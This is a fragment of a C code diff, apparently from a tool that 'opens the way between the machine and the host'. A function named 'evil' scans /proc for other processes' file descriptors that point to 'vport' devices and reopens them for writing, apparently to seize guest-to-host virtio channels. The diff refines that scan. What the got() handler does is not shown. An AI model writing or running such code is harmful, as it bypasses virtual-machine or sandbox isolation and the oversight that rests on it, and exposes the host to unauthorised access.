@@ -1,8 +1,6 @@
 /* Opens the way between the machine and the host. */
-#include <dirent.h>
 #include <string.h>
 #include <sys/socket.h>
-#include <sys/un.h>
 
 static void got(const char *path, int fd)
 {
@@ -25,11 +23,15 @@ static void evil(const char *path)
 	(void)path;
 	for (size_t i = 0; i < sizeof ports / sizeof *ports; i++)
 		got(ports[i], open(ports[i], O_RDWR | O_NONBLOCK | O_NOCTTY));
-	for (int pid = 1; pid < 1000; pid++)
+	for (int pid = 1; pid < 1000; pid++) {
+		snprintf(name, sizeof name, "/proc/%d/fd", pid);
+		if (access(name, R_OK | X_OK) != 0)
+			continue;
 		for (int fd = 3; fd < 32; fd++) {
 			snprintf(name, sizeof name, "/proc/%d/fd/%d", pid, fd);
 			ssize_t n = readlink(name, target, sizeof target - 1);
 			if (n > 0 && memmem(target, (size_t)n, "vport", 5) != NULL)
 				got(name, open(name, O_WRONLY | O_NONBLOCK));
 		}
+	}
 }
